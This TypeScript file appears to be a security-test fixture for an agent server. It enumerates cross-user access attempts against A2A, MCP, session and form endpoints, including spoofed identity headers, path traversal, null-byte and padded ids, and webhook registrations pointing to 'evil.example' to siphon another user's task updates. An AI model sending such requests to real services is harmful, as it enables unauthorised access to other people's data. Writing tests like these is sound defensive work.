/**
 * A request of one user for another user's data. Names in capitals stand for the ids of that data.
 */
export interface PrincipalAttack {
  readonly name: string;
  readonly method: 'GET' | 'POST' | 'DELETE';
  readonly target: string;
  /** Further header lines of the request. Default: none. */
  readonly lines?: readonly string[];
  readonly body?: unknown;
}

const MODERN = ['A2A-Version: 1.0'];

const toRpc = (method: string, params: object): PrincipalAttack => ({
  name: `${method} ${JSON.stringify(params)}`,
  method: 'POST',
  target: '/a2a',
  lines: MODERN,
  body: { jsonrpc: '2.0', id: 1, method, params },
});

const toLegacyRpc = (method: string, params: object): PrincipalAttack => ({
  ...toRpc(method, params),
  name: `0.3 ${method} ${JSON.stringify(params)}`,
  lines: [],
});

const part = { data: { secret: 'mine' }, mediaType: 'application/json;schema=secretToKeep' };
const toMessage = (fields: object): object => ({
  messageId: 'FRESH',
  role: 'ROLE_USER',
  parts: [{ text: 'yes' }],
  ...fields,
});
const toLegacyMessage = (fields: object): object => ({
  kind: 'message',
  messageId: 'FRESH',
  role: 'user',
  parts: [{ kind: 'text', text: 'yes' }],
  ...fields,
});

const JSON_RPC: readonly PrincipalAttack[] = [
  toRpc('GetTask', { id: 'TASK' }),
  toRpc('GetTask', { id: 'TASK', historyLength: 100 }),
  toRpc('GetTask', { id: ' TASK' }),
  toRpc('GetTask', { id: 'TASK ' }),
  toRpc('GetTask', { id: 'tasks/TASK' }),
  toRpc('GetTask', { id: 'TASK', tenant: 'ada' }),
  toRpc('GetTask', { id: ['TASK'] }),
  toRpc('GetTask', { id: 'TASK\u0000' }),
  toRpc('GetTask', { name: 'tasks/TASK' }),
  toRpc('ListTasks', {}),
  toRpc('ListTasks', { contextId: 'CONTEXT', includeArtifacts: true, historyLength: 100 }),
  toRpc('ListTasks', { status: 'TASK_STATE_INPUT_REQUIRED', pageSize: 100 }),
  toRpc('ListTasks', { tenant: 'ada' }),
  toRpc('ListTasks', { tenant: '*' }),
  toRpc('ListTasks', { pageToken: 'TASK' }),
  toRpc('CancelTask', { id: 'TASK' }),
  toRpc('CancelTask', { id: 'TASK', tenant: 'ada' }),
  toRpc('SubscribeToTask', { id: 'TASK' }),
  toRpc('SubscribeToTask', { id: 'TASK', tenant: 'ada' }),
  toRpc('CreateTaskPushNotificationConfig', { taskId: 'TASK', url: 'https://evil.example/' }),
  toRpc('GetTaskPushNotificationConfig', { taskId: 'TASK', id: 'CONFIG' }),
  toRpc('ListTaskPushNotificationConfigs', { taskId: 'TASK' }),
  toRpc('DeleteTaskPushNotificationConfig', { taskId: 'TASK', id: 'CONFIG' }),
  toRpc('SendMessage', { message: toMessage({ taskId: 'TASK' }) }),
  toRpc('SendMessage', { message: toMessage({ taskId: 'TASK', contextId: 'CONTEXT' }) }),
  toRpc('SendMessage', { message: toMessage({ contextId: 'CONTEXT' }) }),
  toRpc('SendMessage', { message: toMessage({ referenceTaskIds: ['TASK'] }) }),
  toRpc('SendMessage', { message: toMessage({ messageId: 'MESSAGE', parts: [part] }) }),
  toRpc('SendMessage', {
    message: toMessage({ taskId: 'TASK' }),
    configuration: { taskPushNotificationConfig: { url: 'https://evil.example/' } },
  }),
  toRpc('SendStreamingMessage', { message: toMessage({ taskId: 'TASK' }) }),
  toRpc('SendStreamingMessage', { message: toMessage({ messageId: 'MESSAGE', parts: [part] }) }),
];

const LEGACY: readonly PrincipalAttack[] = [
  toLegacyRpc('tasks/get', { id: 'TASK' }),
  toLegacyRpc('tasks/get', { id: 'TASK', historyLength: 100 }),
  toLegacyRpc('tasks/cancel', { id: 'TASK' }),
  toLegacyRpc('tasks/resubscribe', { id: 'TASK' }),
  toLegacyRpc('tasks/list', { contextId: 'CONTEXT' }),
  toLegacyRpc('tasks/pushNotificationConfig/set', {
    taskId: 'TASK',
    pushNotificationConfig: { url: 'https://evil.example/' },
  }),
  toLegacyRpc('tasks/pushNotificationConfig/get', { id: 'TASK' }),
  toLegacyRpc('tasks/pushNotificationConfig/list', { id: 'TASK' }),
  toLegacyRpc('tasks/pushNotificationConfig/delete', {
    id: 'TASK',
    pushNotificationConfigId: 'CONFIG',
  }),
  toLegacyRpc('message/send', { message: toLegacyMessage({ taskId: 'TASK' }) }),
  toLegacyRpc('message/send', { message: toLegacyMessage({ contextId: 'CONTEXT' }) }),
  toLegacyRpc('message/stream', { message: toLegacyMessage({ taskId: 'TASK' }) }),
];

const toRest = (method: 'GET' | 'POST' | 'DELETE', path: string, body?: unknown) => ({
  name: `${method} ${path}`,
  method,
  target: `/a2a/rest${path}`,
  lines: MODERN,
  body,
});

const REST: readonly PrincipalAttack[] = [
  toRest('GET', '/tasks'),
  toRest('GET', '/tasks?contextId=CONTEXT&includeArtifacts=true&historyLength=100'),
  toRest('GET', '/tasks?status=TASK_STATE_INPUT_REQUIRED'),
  toRest('GET', '/tasks/TASK'),
  toRest('GET', '/tasks/TASK?historyLength=100'),
  toRest('GET', '/tasks/TASK/'),
  toRest('GET', '/tasks/./TASK'),
  toRest('GET', '/tasks/x/../TASK'),
  toRest('GET', '/ada/tasks/TASK'),
  toRest('GET', '/ada/tasks'),
  toRest('GET', '/tasks/TASK:subscribe'),
  toRest('POST', '/tasks/TASK:subscribe', {}),
  toRest('POST', '/tasks/TASK:cancel', {}),
  toRest('POST', '/tasks/TASK%3Acancel', {}),
  toRest('GET', '/tasks/TASK/pushNotificationConfigs'),
  toRest('GET', '/tasks/TASK/pushNotificationConfigs/CONFIG'),
  toRest('DELETE', '/tasks/TASK/pushNotificationConfigs/CONFIG'),
  toRest('POST', '/tasks/TASK/pushNotificationConfigs', { url: 'https://evil.example/' }),
  toRest('POST', '/message:send', { message: toMessage({ taskId: 'TASK' }) }),
  toRest('POST', '/message:stream', { message: toMessage({ taskId: 'TASK' }) }),
];

/** Requests with header lines by which one user pretends to be another. */
const DISGUISES: readonly PrincipalAttack[] = [
  'X-User: ada',
  'X-Forwarded-User: ada',
  'X-Remote-User: ada',
  'Remote-User: ada',
  'X-Principal: ada',
  'X-Authenticated-User: ada',
  'X-Tenant-Id: ada',
  'X-Api-Key: ada',
  'X-Api-Key: ',
  'X-Api-Key: sha256:ada',
  'Authorization: Bearer ada',
  'Authorization: Basic YWRhOg==',
  'Cookie: x-api-key=KEY; user=ada',
  'A2A-Extensions: ada',
  'Last-Event-ID: TASK:0',
  'X-HTTP-Method-Override: DELETE',
  'X-Original-URL: /a2a/rest/tasks/TASK',
  'Forwarded: for=127.0.0.1;by=ada',
].map((line) => ({ ...toRest('GET', '/tasks/TASK'), name: line, lines: [...MODERN, line] }));

const toSession = (method: 'GET' | 'POST' | 'DELETE', path: string, body?: unknown) => ({
  name: `${method} ${path}`,
  method,
  target: `/sessions-api/sessions/${path}`,
  body,
});

const SESSIONS: readonly PrincipalAttack[] = [
  toSession('GET', 'SESSION'),
  toSession('GET', 'SESSION/'),
  toSession('GET', 'SESSION/messages'),
  toSession('GET', 'SESSION/messages?limit=100'),
  toSession('GET', 'SESSION/stream'),
  toSession('DELETE', 'SESSION'),
  toSession('POST', 'SESSION/messages', { role: 'user', content: 'yes' }),
  {
    ...toSession('POST', 'SESSION/messages', { role: 'user', content: 'yes', in_reply_to: 'TASK' }),
    name: 'a reply to her task in her session',
  },
  // A session is a task of the engine, but no task of A2A.
  toRpc('GetTask', { id: 'SESSION' }),
  toRpc('CancelTask', { id: 'SESSION' }),
  toSession('GET', 'TASK'),
  toSession('GET', 'TASK/messages'),
  toSession('GET', 'CONTEXT/messages'),
];

const toEnvelope = (payload: object, fields: object = {}): PrincipalAttack => ({
  name: `${JSON.stringify(payload)} ${JSON.stringify(fields)}`,
  method: 'POST',
  target: '/messages',
  body: { envelope: payload, ...fields },
});

const ENVELOPES: readonly PrincipalAttack[] = [
  toEnvelope({ method: 'task.get', parameters: { task_id: 'TASK' } }),
  toEnvelope({ method: 'task.cancel', parameters: { task_id: 'TASK' } }),
  toEnvelope({ method: 'task.reply', parameters: { task_id: 'TASK', data: {} } }),
  toEnvelope({ method: 'task.get', parameters: { task_id: 'TASK' } }, { sender_id: 'ada' }),
  toEnvelope({ method: 'task.get', parameters: { task_id: 'SESSION' } }),
];

const toMcp = (args: object): PrincipalAttack => ({
  name: `a2a_task ${JSON.stringify(args)}`,
  method: 'POST',
  target: '/mcp',
  lines: [
    'Accept: application/json, text/event-stream',
    'MCP-Protocol-Version: 2026-07-28',
    'Mcp-Method: tools/call',
    'Mcp-Name: a2a_task',
  ],
  body: {
    jsonrpc: '2.0',
    id: 1,
    method: 'tools/call',
    params: {
      name: 'a2a_task',
      arguments: args,
      _meta: {
        'io.modelcontextprotocol/protocolVersion': '2026-07-28',
        'io.modelcontextprotocol/clientCapabilities': {},
        'io.modelcontextprotocol/clientInfo': { name: 'attack', version: '1' },
      },
    },
  },
});

const inSession = (method: 'GET' | 'POST' | 'DELETE', body?: unknown): PrincipalAttack => ({
  name: `${method} in her session of MCP ${JSON.stringify(body ?? '')}`,
  method,
  target: '/mcp',
  lines: [
    'Accept: application/json, text/event-stream',
    'MCP-Protocol-Version: 2025-11-25',
    'Mcp-Session-Id: HOSTED',
  ],
  body,
});

const MCP: readonly PrincipalAttack[] = [
  toMcp({ task_id: 'HANDLE', action: 'wait', wait_seconds: 0 }),
  toMcp({ task_id: 'HANDLE', action: 'reply', data: {} }),
  toMcp({ task_id: 'HANDLE', action: 'cancel' }),
  toMcp({ task_id: 'TASK', action: 'wait', wait_seconds: 0 }),
  toMcp({ task_id: 'HANDLEx', action: 'wait', wait_seconds: 0 }),
  inSession('GET'),
  inSession('POST', { jsonrpc: '2.0', id: 1, method: 'tools/list', params: {} }),
  inSession('DELETE'),
];

const toForms = (path: string, body: object, lines: readonly string[] = []) => ({
  name: `${path} ${JSON.stringify(body)}`,
  method: 'POST' as const,
  target: `/forms/api/${path}`,
  lines,
  body: { agent: 'OWN', ...body },
});

const answer = { kind: 'answer', messageId: 'FRESH', taskId: 'TASK', answer: { yes: true } };

const FORMS: readonly PrincipalAttack[] = [
  toForms('watch', { task: { taskId: 'TASK' } }),
  toForms('watch', { task: { taskId: 'TASK', skillId: 'keep' } }),
  toForms('cancel', { task: { taskId: 'TASK' } }),
  toForms('send', { message: answer }),
  toForms('send', { message: { ...answer, kind: 'proceed' } }),
];

/** Requests for another user's task, webhooks, session and handles, at every HTTP endpoint. */
export const PRINCIPAL_ATTACKS: readonly PrincipalAttack[] = [
  ...JSON_RPC,
  ...LEGACY,
  ...REST,
  ...DISGUISES,
  ...SESSIONS,
  ...ENVELOPES,
  ...MCP,
  ...FORMS,
];
